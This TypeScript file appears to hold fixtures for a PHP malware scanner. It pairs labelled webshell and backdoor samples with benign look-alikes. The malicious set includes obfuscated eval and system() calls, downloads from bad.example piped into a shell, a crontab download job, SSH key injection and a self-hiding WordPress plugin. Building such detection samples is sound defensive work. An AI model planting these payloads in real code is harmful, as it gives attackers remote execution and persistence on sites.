import { deflateRawSync } from 'node:zlib';
import type { Named } from './index.ts';

const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64');
const hex = (text: string) => Buffer.from(text).toString('hex');
const shifted = (text: string, by: number) => [...text].map((char) => char.charCodeAt(0) + by).join(',');
const xored = (text: string, key: number) =>
  base64([...text].map((char) => String.fromCharCode(char.charCodeAt(0) ^ key)).join(''));

/** Put together here, so that no live shell lies in the tree. */
const COMMAND = ['sys', 'tem'].join('');
const RUN = 'eval($_POST["c"]);';
const LONG = 'echo 1;'.repeat(20) + RUN;
const GIVEN = "($_GET['c']);";
/** A function that undoes an encoding of its own, around what it does with each character. */
const decoder = (name: string, step: string) =>
  `function ${name}($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { ${step} } return $o; }`;

/** How malware hides what it calls and runs, one way each. */
export const MALICIOUS_HIDDEN_CODE: Named = {
  'no tag, and a line that begins with echo': `$a = $_POST['x'];\necho "hello";\n${RUN}\n`,
  'no tag, and an array with arrows': `$a = array('http' => array('method' => 'POST'));\n${RUN}\n`,
  'a download into a shell': `<?php ${COMMAND}('curl http://bad.example/a.sh | sh');`,
  'a download, then a shell': `<?php passthru('wget http://bad.example/y && sh y');`,
  'a download that is run, in three calls': `<?php exec('wget http://bad.example/b -O /tmp/b'); exec('chmod 777 /tmp/b'); exec('/tmp/b &');`,
  'a download that is run, by functions': `<?php $p = '/tmp/b'; file_put_contents($p, file_get_contents('http://bad.example/b')); chmod($p, 0755); exec($p . ' > /dev/null &');`,
  'a decoded script in one line': `<?php shell_exec("python3 -c \\"exec(__import__('base64').b64decode('eA=='))\\"");`,
  'a job that downloads, by PHP': `<?php exec('(crontab -l; echo "*/5 * * * * curl -s http://bad.example/a | sh") | crontab -');`,
  'a key for a login': `<?php file_put_contents('/root/.ssh/authorized_keys', "ssh-rsa AAAAB3NzaC1yc2E a@b", FILE_APPEND);`,
  'a program in Perl in an encoded text': `<?php $p = '${base64('#!/usr/bin/perl\nuse Socket;\nprint 1;')}'; save($p);`,
  'a name in static properties': `<?php class K { static $a = array('sys', 'tem'); } $f = K::$a[0] . K::$a[1]; $f${GIVEN}`,
  'a name in heredocs': `<?php $a = <<<X\nsys\nX;\n$b = <<<Y\ntem\nY;\n$f = $a . $b; $f${GIVEN}`,
  'a name in codes of an array': `<?php $f = implode('', array_map('chr', array(${shifted(COMMAND, 0)}))); $f${GIVEN}`,
  'a name from bytes': `<?php $f = pack('C*', ${shifted(COMMAND, 0)}); $f${GIVEN}`,
  'a name as a number': `<?php $f = base_convert('1751504350', 10, 36); $f${GIVEN}`,
  'a name with spaces taken out': `<?php $f = preg_filter('/\\s+/', '', 'as s er t'); $f${GIVEN}`,
  'a name that is no text': `<?php call_user_func_array(assert, array($_POST['x']));`,
  'a function by reflection': `<?php $c = 'Reflection' . 'Function'; $r = new $c('${COMMAND}'); $r->invoke${GIVEN}`,
  'a method named by a variable': `<?php class A { static function run($x) { eval($x); } } $m = 'run'; A::$m($_POST['c']);`,
  'a method among callbacks': `<?php class A { static function run($x) { eval($x); } } call_user_func(array('A', 'ru' . 'n'), $_POST['c']);`,
  'an object that is called': `<?php class A { function __invoke($p) { eval($p); } } $o = new A; $o($_POST['c']);`,
  'a function of C': `<?php $f = FFI::cdef('int ${COMMAND}(const char *c);'); $f->${COMMAND}($_GET['c']);`,
  'variables that the request sets one by one': '<?php foreach ($_POST as $k => $v) { $$k = $v; } $a($b);',
  'parts of the request in a list': '<?php list($f, $x) = array_values($_POST); $f($x);',
  'the name of a parameter': `<?php $a = array($_REQUEST['x'] => '3'); eval(array_keys($a)[0]);`,
  'a file that is written and included': `<?php $t = tempnam('/tmp', 'x'); file_put_contents($t, '<?php ' . $_POST['c']); include $t;`,
  'inline data that is included': `<?php include 'data:text/plain;base64,' . base64_encode($_POST['c']);`,
  'a hidden file below an unknown folder': `<?php $p = $_SERVER['DOCUMENT_ROOT'] . '/images/.sess-81'; require($p);`,
  'its own exclusive or': `<?php ${decoder('d', '$o .= chr(ord($s[$i]) ^ 7);')} eval(d(base64_decode('${xored(LONG, 7)}')));`,
  'its own exclusive or, in place': `<?php $s = base64_decode('${xored(LONG, 7)}'); for ($i = 0; $i < strlen($s); $i++) { $s[$i] = chr(ord($s[$i]) ^ 7); } eval($s);`,
  'its own hexadecimal': `<?php function h($s) { $o = ''; for ($i = 0; $i < strlen($s); $i += 2) { $o .= chr(hexdec(substr($s, $i, 2))); } return $o; } $f = h('${hex('create_function')}'); $g = $f('', h('${hex(LONG)}')); $g();`,
  'an alphabet of its own': `<?php ${decoder('t', "$p = strpos('abcdefghijklmnopqrstuvwxyz', $s[$i]); $o .= $p === false ? $s[$i] : 'zyxwvutsrqponmlkjihgfedcba'[$p];")} $f = t('hbhgvn'); $f${GIVEN}`,
  'a list of numbers': `<?php $o = ''; foreach (array(${shifted(LONG, 3)}) as $n) { $o .= chr($n - 3); } file_put_contents('wp-cache.php', $o);`,
  'a method that undoes a shift': `<?php class D { private $s = 'tztufn'; function go() { $o = ''; for ($i = 0; $i < strlen($this->s); $i++) { $o .= chr(ord($this->s[$i]) - 1); } return $o; } function run($c) { $f = $this->go(); $f($c); } } $d = new D; $d->run($_GET['c']);`,
  'a list of encoded texts behind a function': `<?php function s($i) { $a = array('${base64(COMMAND)}', '${base64('c')}'); return base64_decode($a[$i]); } s(0)($_GET[s(1)]);`,
  'code that a decoder of its own inflates': `<?php function r($s) { return gzinflate(base64_decode($s)); } eval(r('${deflateRawSync(LONG).toString('base64')}'));`,
  'names in properties that are declared last': `<?php class A { function __construct() { $this->make($this->code); } function make($s) { $f = $this->ver[3] . $this->ver[4] . $this->ver[2] . $this->ver[1] . $this->ver[0]; $v = $f('', $s); return $v(); } var $ver = array('on', 'cti', '_fun', 'crea', 'te'); } new A();`,
  'a name that a called function makes': `<?php function glue($s) { $f = sanitize_key('s t r _ r e p l a c e'); return call_user_func_array($f, array('..', '', $s)); } $f = glue('s..y..s..t..e..m'); call_user_func($f, $_GET['c']);`,
  'a download by copying': `<?php copy('http://bad.example/a.txt', 'wp-cache.php');`,
  'a script before a file that prints nothing': `<script src='https://bad.example/m.js?n=1' type='text/javascript'></script><?php\n// Silence is golden.\n`,
  'a script before the front of a site': `<script type=text/javascript src='https://bad.example/free.js'></script><?php\n/**\n * Front to the application.\n *\n * @package Site\n */\n\n/**\n * Tells it to load the theme.\n *\n * @var bool\n */\ndefine('WP_USE_THEMES', true);\n\n/** Loads it. */\nrequire __DIR__ . '/wp-blog-header.php';\n`,
  'code for a new file under a name that ends here': `<?php $d = array_rand(array_flip(glob($_SERVER['DOCUMENT_ROOT'] . '/*', GLOB_ONLYDIR))); $f = $d . '/' . substr(md5(time()), 0, 8) . '.php'; file_put_contents($f, stripslashes($_POST['c'])); echo $f;`,
  'a plugin that hides itself': `<?php /* Plugin Name: Cache */ add_filter('all_plugins', 'hide'); function hide($p) { unset($p[plugin_basename(__FILE__)]); return $p; } add_action('wp_head', 'show');`,
};

/** What looks like it and is ordinary. */
export const CLEAN_HIDDEN_CODE: Named = {
  'programs of an image library': `<?php exec('convert ' . escapeshellarg($in) . ' -resize 100x100 ' . escapeshellarg($out));`,
  'a deployment': `<?php exec('git pull && composer install --no-dev', $out); exec('chmod -R 775 storage'); exec('php artisan migrate');`,
  'an installer that is known': `<?php exec('curl -sS https://getcomposer.org/installer | php');`,
  'a database that is fetched': `<?php exec('wget -q https://geo.example/cities.mmdb -O data/cities.mmdb'); exec('php bin/import.php data/cities.mmdb');`,
  'properties that are declared last': `<?php class Report { function render($rows) { $f = $this->formats['html']; return $this->$f($rows) . $this->tags[0] . $this->tags[1]; } private $formats = array('html' => 'asHtml', 'csv' => 'asCsv'); private $tags = array('<t', 'd>'); }`,
  'a text function that is called by its name': `<?php $clean = call_user_func_array('str_replace', array(' ', '_', $title)); $fn = call_user_func('strtolower', 'Render_Page'); if (function_exists($fn)) { $fn($clean); }`,
  'a picture that is copied': `<?php $icon = './images/align-left.png'; file_put_contents('./cache/' . basename($icon), file_get_contents($icon)); copy($icon, 'logo.png');`,
  'a template that becomes a page': `<?php file_put_contents('index.php', file_get_contents('templates/index.tpl')); copy('htaccess.txt', '.htaccess');`,
  'an installer that is copied': `<?php copy('https://getcomposer.org/installer', 'composer-setup.php');`,
  'a script before a part of a page': `<script src="https://www.google.com/recaptcha/api.js"></script><?php\necho do_shortcode('[form]');\n`,
  'a script before a form': `<script src="https://cdn.example/jquery.js"></script><?php\n$title = get_title();\n?>\n<form><h1><?= $title ?></h1></form>`,
  'a script before what is done with a form': `<script src="https://www.google.com/recaptcha/api.js"></script><?php\nif (isset($_POST['mail'])) { send($_POST['mail']); }\n`,
  'a compiled template': `<?php function compile($dir, $name) { $file = $dir . '/' . md5($name) . '.php'; file_put_contents($file, render(file_get_contents($dir . '/' . $name))); return $file; }`,
  'a copy of a database': `<?php exec('mysqldump --opt -h ' . $host . ' shop | gzip > /backup/shop.sql.gz');`,
  'a list of jobs': `<?php $jobs = shell_exec('crontab -l'); foreach (explode("\\n", $jobs) as $job) { echo htmlspecialchars($job); }`,
  'a job in a manual': `<?php echo '<p>Add this line: <code>*/5 * * * * php cron.php</code></p>'; system('date');`,
  'keys that are listed': `<?php foreach (file(getenv('HOME') . '/.ssh/authorized_keys') as $key) { echo trim($key); }`,
  'a class of a template': `<?php class Env { function load($name) { $class = '__Template_' . hash('sha256', $name); return new $class($this); } }`,
  'a container of services': `<?php class Container { function make($class) { $r = new ReflectionClass($class); return $r->newInstanceArgs($this->args($r)); } function call($fn, $args) { return call_user_func_array($fn, $args); } }`,
  'a route': `<?php $c = ucfirst($route['controller']) . 'Controller'; $m = $route['action'] . 'Action'; $o = new $c(); if (is_callable(array($o, $m))) { $o->$m(); }`,
  'a setter of a serialiser': `<?php class S { function set($o, $p, $v) { $m = 'set' . str_replace('_', '', ucwords($p, '_')); $o->{$m}($v); } }`,
  'a function that PHP lacks': `<?php if (!function_exists('hex2bin')) { function hex2bin($s) { $o = ''; for ($i = 0; $i < strlen($s); $i += 2) { $o .= chr(hexdec(substr($s, $i, 2))); } return $o; } } echo base64_encode(hex2bin('00ff'));`,
  'a cipher': `<?php class Rc4 { static function crypt($key, $data) { $r = ''; for ($i = 0; $i < strlen($data); $i++) { $r .= $data[$i] ^ $key[$i % strlen($key)]; } return $r; } } echo Rc4::crypt($k, 'text');`,
  'a secret in base 32': `<?php function base32($s) { $b = ''; foreach (str_split($s) as $c) { $b .= sprintf('%05b', strpos('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', $c)); } $o = ''; foreach (str_split($b, 8) as $x) { $o .= chr(bindec($x)); } return $o; } echo hash_hmac('sha1', $t, base32('JBSWY3DPEHPK3PXP'));`,
  'bars of a code': `<?php $codes = array('0' => '101', '1' => '110'); $out = ''; for ($i = 0; $i < strlen($text); $i++) { $out .= $codes[$text[$i]] . '0'; } echo $out;`,
  'functions for kinds of images': `<?php $fn = 'imagecreatefrom' . ($ext === 'jpg' ? 'jpeg' : $ext); $img = $fn($file); $save = 'image' . $ext; $save($img, $out);`,
  'functions for kinds of fields': `<?php foreach ($fields as $k => $type) { $fn = 'sanitize_' . $type; $clean[$k] = function_exists($fn) ? $fn($_POST[$k]) : ''; }`,
  'functions one after the other': `<?php $steps = array('trim', 'strip_tags', 'strtolower'); foreach ($steps as $fn) { $text = $fn($text); } echo $text;`,
  'a name that a reference completes': `<?php function add(&$s) { $s = $s . '_html'; } $fn = 'render'; add($fn); if (function_exists($fn)) { $fn($post); }`,
  'a page by the name of the file': `<?php $fn = 'page_' . basename(__FILE__, '.php'); if (function_exists($fn)) { $fn($_GET['id']); }`,
  'a function that calls itself': `<?php function clean($v) { return is_array($v) ? array_map(__FUNCTION__, $v) : trim($v); } $v = clean($_POST['v']);`,
  'a key from a hash': `<?php $fn = 'compiled_' . md5($expression); if (!function_exists($fn)) { require $dir . '/' . $fn . '.php'; } return $fn($data);`,
  'settings that are written and read': `<?php file_put_contents('config.php', '<?php return ' . var_export($config, true) . ';'); $config = include 'config.php';`,
  'pieces of an address for mails': `<?php function rot($s, $n) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= chr(ord($s[$i]) + $n); } return $o; } echo '<a href="' . rot('nbjmup', -1) . '">';`,
  'a compiler with an alphabet': `<?php $chars = implode(range('a', 'z')) . '_'; function short($n, $chars) { return $chars[$n % strlen($chars)]; } function shrink($code, $chars) { foreach (token_get_all($code) as $i => $t) { $code = str_replace($t[1], short($i, $chars), $code); } return $code; } file_put_contents('all.php', shrink(file_get_contents('index.php'), $chars));`,
  'who came last, in a hidden file': `<?php function note($dir) { file_put_contents($dir . '/.last', json_encode(array('ip' => $_SERVER['HTTP_X_FORWARDED_FOR']))); }`,
  'callbacks in a list of checks': `<?php class Checks { protected $checks = []; function run($done) { foreach ($done as $name) { $i = array_search($name, array_column($this->checks, 'name'), true); if (false !== $i) { $this->checks[$i]['done'] = true; } } foreach ($this->checks as $i => $check) { if (!$check['done']) { $this->checks[$i]['done'] = call_user_func([$this, $check['callback']]); } } } }`,
  'a password that is rolled': `<?php $p = ''; for ($i = 0; $i < 10; $i++) { $p .= 'abcdefghjkmnp23456789'[mt_rand(0, 19)]; } echo $p;`,
  'a facade': `<?php class Facade { static function __callStatic($m, $a) { return call_user_func_array(array(static::get(), $m), $a); } } Facade::render($_GET['page']);`,
  'a step of a pipeline': `<?php class Step { function __invoke($request, $next) { return $next($request); } } $step = new Step; echo $step($request, 'handle');`,
  'a hidden plugin for those who may not see it': `<?php add_filter('all_plugins', 'hide'); function hide($p) { if (!is_super_admin()) { unset($p[plugin_basename(__FILE__)]); } return $p; }`,
  'a function of C that prints': `<?php $ffi = FFI::cdef('int printf(const char *format, ...);', 'libc.so.6'); $ffi->printf("Hello");`,
  'shell: lines that begin with echo': `#!/bin/sh\necho "Installing"\nexport PATH=$HOME/bin:$PATH\ncd /opt && git clone https://git.example/x\nFOO=$1\necho $FOO\n`,
  'powershell: variables': `$a = Get-ChildItem\n$b = $a.Count\necho "files: $b"\n`,
  'script: variables with a dollar sign': `$box = $('#box');\n$list = $box.find('li');\nfunction show($item) { $item.addClass('on'); }\nshow($list);\n`,
};
